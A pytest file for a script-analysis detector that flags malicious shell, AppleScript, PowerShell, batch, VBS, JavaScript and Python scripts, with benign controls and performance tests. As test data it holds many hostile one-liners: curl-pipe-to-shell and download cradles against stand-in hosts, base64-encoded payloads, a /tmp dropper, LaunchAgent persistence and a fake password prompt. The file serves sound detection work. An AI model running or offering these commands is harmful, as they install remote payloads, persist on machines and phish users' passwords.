"""Script handler: decoding, facts, and the behaviour shapes from THREATS.md (plus benign controls)."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from agent.analysis.context import AnalysisContext, Limits
from agent.analysis.facts import FormatResult
from agent.analysis.formats import script

PAD = "\n" * 12_000


def codes(result: FormatResult) -> set[str]:
    return {r.code for r in result.indicators}


# (file name, script text, indicator codes expected — exactly). Each case says why it exists.
CASES: list[tuple[str, str, set[str]]] = [
    # THREATS.md AppleScript lure: decoy open location, >10,000 blank lines, curl | osascript
    ("zoom_sdk_support.scpt",
     'open location "https://zoom.example/sdk"\n' + PAD + 'do shell script "curl -fsSL https://us05web-zoom.invalid/fix'
     ' | osascript"\n',
     {"SCRIPT_PADDING", "SCRIPT_DOWNLOAD_EXEC"}),
    # AppleScript that runs the output of a shell command as code
    ("fix.applescript",
     'set s to do shell script "curl -s https://support-zoom.invalid/a"\nrun script s\n',
     {"SCRIPT_DOWNLOAD_EXEC", "SCRIPT_RUN_SCRIPT"}),
    # fake system password dialog (T1056.002)
    ("audio_fix.applescript",
     'set pw to text returned of (display dialog "Zoom needs your password to install the audio driver" ¬\n'
     '  default answer "" with icon caution with hidden answer)\n',
     {"APPLESCRIPT_PASSWORD_PROMPT"}),
    # curl | bash installer: suspicious shape (benign installers do it too; the brand decides)
    ("install.sh", "#!/bin/bash\nset -e\ncurl -fsSL https://get.example/install.sh | sudo bash\n",
     {"SCRIPT_DOWNLOAD_EXEC"}),
    # wget piped to sh with an absolute shell path
    ("x.sh", "#!/bin/sh\nwget -qO- http://a.invalid/s | /bin/sh -s -- --quiet\n", {"SCRIPT_DOWNLOAD_EXEC"}),
    # bash -c "$(curl …)" (the Homebrew idiom, still a download-and-run)
    ("brew.sh", '/bin/bash -c "$(curl -fsSL https://raw.example/install.sh)"\n', {"SCRIPT_DOWNLOAD_EXEC"}),
    # a benign assignment from curl is not execution
    ("ver.sh", '#!/bin/sh\nv="$(curl -s https://api.example/version)"\necho "$v"\n', set()),
    # dropper: download to a hidden file in /tmp, chmod +x, run
    ("zoom_fix.command",
     "#!/bin/zsh\ncurl -so /tmp/.zx https://web071zoom.invalid/u\nchmod +x /tmp/.zx\n/tmp/.zx &\n",
     {"SCRIPT_CHMOD_EXEC"}),
    # chmod +x of an ordinary build artefact: not evidence
    ("build.sh", "#!/bin/sh\ncc -o hello hello.c\nchmod +x ./hello\n./hello\n", set()),
    # LaunchAgent persistence
    ("persist.sh",
     "#!/bin/bash\ncp /tmp/.zx ~/Library/LaunchAgents/us.zoom.updater.plist\n"
     "launchctl load ~/Library/LaunchAgents/us.zoom.updater.plist\n",
     {"SCRIPT_LAUNCHAGENT"}),
    # base64 blob decoded and piped to a shell
    ("b64.sh", "#!/bin/sh\necho Y3VybCBodHRwczovL2EuaW52YWxpZC94IHwgc2gK | base64 -d | sh\n", {"SCRIPT_OBFUSCATION"}),
    # PowerShell download cradle
    ("update.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://teams-install.invalid/a.ps1')\n",
     {"SCRIPT_DOWNLOAD_EXEC"}),
    # iwr | iex (cradle after the pipe)
    ("u.ps1", "iwr https://a.invalid/p.ps1 -UseBasicParsing | iex\n", {"SCRIPT_DOWNLOAD_EXEC"}),
    # "iexplore" must not count as iex
    ("ie.ps1", 'Start-Process "C:\\Program Files\\Internet Explorer\\iexplore.exe" https://intranet.example\n', set()),
    # PowerShell -EncodedCommand from a batch file
    ("run.bat",
     "@echo off\npowershell -nop -w hidden -enc "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n",
     {"SCRIPT_OBFUSCATION"}),
    # FromBase64String then Invoke-Expression
    ("b.ps1", "$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n",
     {"SCRIPT_OBFUSCATION"}),
    # certutil and bitsadmin used as downloaders
    ("dl.bat", "@echo off\ncertutil -urlcache -split -f http://a.invalid/x.exe %TEMP%\\x.exe\n",
     {"SCRIPT_DOWNLOAD_EXEC"}),
    ("dl2.bat", "@echo off\nbitsadmin /transfer j http://a.invalid/x.exe %TEMP%\\x.exe\n", {"SCRIPT_DOWNLOAD_EXEC"}),
    # VBS: XMLHTTP + ADODB.Stream SaveToFile + Run
    ("update.vbs",
     'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://a.invalid/n.exe", False\nh.Send\n'
     'Set s = CreateObject("ADODB.Stream")\ns.Open\ns.Type = 1\ns.Write h.responseBody\ns.SaveToFile "n.exe", 2\n'
     'CreateObject("WScript.Shell").Run "n.exe"\n',
     {"SCRIPT_DOWNLOAD_EXEC"}),
    # BeaverTail-style: node child_process running curl
    ("postinstall.js",
     "const { exec } = require('child_process');\nexec('curl -sL https://a.invalid/p.py -o p.py && python3 p.py');\n",
     {"SCRIPT_DOWNLOAD_EXEC"}),
    # JavaScript eval(atob(...))
    ("o.js", "eval(atob('Y29uc29sZS5sb2coMSk='));\n", {"SCRIPT_OBFUSCATION"}),
    # a long String.fromCharCode chain
    ("c.js", "var s = String.fromCharCode(" + ",".join(["104"] * 40) + ");\n", {"SCRIPT_OBFUSCATION"}),
    # Python exec of base64
    ("p.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", {"SCRIPT_OBFUSCATION"}),
    # ordinary scripts of every kind: no indicators
    ("ok.sh", "#!/bin/sh\nset -e\nfor f in *.txt; do\n  wc -l \"$f\"\ndone\n", set()),
    ("ok.ps1", "param([string]$Path)\nGet-ChildItem $Path | Write-Host\n", set()),
    ("ok.applescript", 'tell application "Finder" to open home\ndisplay dialog "Done"\n', set()),
    ("ok.js", "module.exports = function add(a, b) { return a + b; };\n", set()),
    ("ok.bat", "@echo off\nset X=1\necho %X%\n", set()),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "expected"), CASES, ids=[c[0] for c in CASES])
def test_shapes(make_ctx: Callable[..., AnalysisContext], name: str, text: str, expected: set[str]) -> None:
    result = script.analyze(text.encode(), name, make_ctx())
    assert codes(result) == expected, result.indicators
    assert result.text is not None


def test_scores_and_attack_ids(make_ctx: Callable[..., AnalysisContext]) -> None:
    # Download-and-execute alone is suspicious (40), never malicious (>= 70) on its own.
    text = (
        'display dialog "x" default answer "" with hidden answer\n'
        + PAD
        + 'do shell script "curl https://a.invalid/x | sh"\n'
        + 'set s to do shell script "echo"\nrun script s\n'
    )
    result = script.analyze(text.encode(), "a.applescript", make_ctx())
    got = {r.code: (r.attack, r.score) for r in result.indicators}
    assert got == {
        "SCRIPT_PADDING": ("T1027.001", 40),
        "SCRIPT_DOWNLOAD_EXEC": ("T1105", 40),
        "APPLESCRIPT_PASSWORD_PROMPT": ("T1056.002", 50),
        "SCRIPT_RUN_SCRIPT": ("T1059.002", 40),
    }
    assert result.facts["technique"] == "T1059.002"


def test_facts(make_ctx: Callable[..., AnalysisContext]) -> None:
    text = 'open location "https://Zoom.example:443/sdk?x=1"\n\n\n\ndo shell script "curl https://us05web-zoom.invalid/a."\n'
    result = script.analyze(text.encode(), "x.scpt", make_ctx())
    f = result.facts
    assert f["kind"] == "applescript" and f["lines"] == 5 and f["blank_run_max"] == 3
    assert f["urls"] == ["https://Zoom.example:443/sdk?x=1", "https://us05web-zoom.invalid/a"]
    assert f["hosts"] == ["zoom.example", "us05web-zoom.invalid"]
    assert ("script:url_host", "us05web-zoom.invalid") in result.claim_fields


@pytest.mark.parametrize(
    ("raw", "encoding"),
    [
        ("\ufeffWrite-Host 'Zoom'\n".encode("utf-16-le"), "utf-16-le"),  # Windows PowerShell "Unicode"
        ("\ufeffWrite-Host 'Zoom'\n".encode("utf-16-be"), "utf-16-be"),
        ("\ufeffWrite-Host 'Zoom'\n".encode(), "utf-8-sig"),
        ("Write-Host 'Zoom'\n".encode("utf-16-le"), "utf-16-le"),  # BOM-less UTF-16
        ("Write-Host 'Zöom'\n".encode("latin-1"), "latin-1"),  # not UTF-8: latin-1 never fails
    ],
    ids=["utf16le-bom", "utf16be-bom", "utf8-bom", "utf16le-nobom", "latin1"],
)
def test_decoding(make_ctx: Callable[..., AnalysisContext], raw: bytes, encoding: str) -> None:
    result = script.analyze(raw, "a.ps1", make_ctx())
    assert result.type == "script:powershell"
    assert result.facts["encoding"] == encoding
    assert result.text is not None and "Write-Host 'Z" in result.text and "\x00" not in result.text


def test_cr_only_line_endings(make_ctx: Callable[..., AnalysisContext]) -> None:
    # Classic Mac line endings: padding must still be counted.
    text = 'open location "https://a.invalid"' + "\r" * 11_000 + 'do shell script "curl https://a.invalid | sh"\r'
    result = script.analyze(text.encode(), "a.applescript", make_ctx())
    assert {"SCRIPT_PADDING", "SCRIPT_DOWNLOAD_EXEC"} <= codes(result)


def test_text_is_capped(make_ctx: Callable[..., AnalysisContext]) -> None:
    raw = b"echo hi\n" * 100_000
    result = script.analyze(raw, "a.sh", make_ctx(limits=Limits(max_text_bytes=4096)))
    assert result.text is not None and len(result.text) <= 4096
    assert result.facts["truncated_at_bytes"] == 4096


def test_compiled_applescript(make_ctx: Callable[..., AnalysisContext]) -> None:
    # osacompile is macOS-only, so this is a synthetic FasdUAS blob with what real ones hold: event codes
    # stored literally (sysoexec = do shell script, sysodsct = run script, sysodlog + htxt = hidden answer)
    # and UTF-16BE string literals.
    cmd = "curl -s https://support-zoom.invalid/a | osascript".encode("utf-16-be")
    blob = (b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f" + b"\x00" * 20 + b"\x0a\xff\xf0\x00\x0c\x2esysoexecTEXT"
            + b"\x0a\xff\xef\x00\x0c\x2esysodsctnull" + b"\x0a\xff\xee\x00\x0c\x2esysodlognull"
            + b"\x0a\xff\xed\x00\x04\x0ahtxt" + b"\x00\x08utxt" + cmd + b"\x00" * 16)  # fmt: skip
    result = script.analyze(blob, "zoom_sdk_support.scpt", make_ctx())
    assert result.type == "applescript-compiled"
    assert set(result.facts["apple_events"]) == {"do shell script", "run script", "display dialog"}
    assert result.text is not None and "support-zoom.invalid" in result.text
    assert codes(result) == {"SCRIPT_DOWNLOAD_EXEC", "SCRIPT_RUN_SCRIPT", "APPLESCRIPT_PASSWORD_PROMPT"}
    assert result.facts["hosts"] == ["support-zoom.invalid"]


def test_compiled_applescript_benign(make_ctx: Callable[..., AnalysisContext]) -> None:
    blob = b"FasdUAS 1.101.10" + b"\x00" * 20 + b"aevtoappnull" + "Hello".encode("utf-16-be") + b"\x00" * 8
    result = script.analyze(blob, "hello.scpt", make_ctx())
    assert result.type == "applescript-compiled" and result.indicators == []


ADVERSARIAL = [
    "curl " * 200_000,  # anchors without a pipe
    "curl |" * 170_000,  # anchors and pipes without a shell name
    "do shell script " * 62_500,
    "iex " * 250_000,
    " " * 1_000_000,  # one huge whitespace run
    "\n \n" * 330_000 + "x",  # alternating blank lines
    "a" * 1_000_000,  # one 1 MB token (base64-like)
    "String.fromCharCode(" + "1," * 500_000,
    "chmod +x /tmp/" + "a" * 1_000_000,
    "https://" + "a" * 1_000_000,
    "Library/LaunchAgents/" * 50_000,
]


@pytest.mark.parametrize("text", ADVERSARIAL, ids=[f"adv{i}" for i in range(len(ADVERSARIAL))])
def test_adversarial_megabyte_lines_are_fast(make_ctx: Callable[..., AnalysisContext], text: str) -> None:
    # Linear regexes: every 1 MB adversarial input is checked well under a second (budget: 2 s on slow CI).
    start = time.perf_counter()
    result = script.analyze(text.encode(), "a.sh", make_ctx())
    elapsed = time.perf_counter() - start
    assert elapsed < 2.0, f"{elapsed:.2f}s"
    assert not any("analysis error" in a for a in result.anomalies)
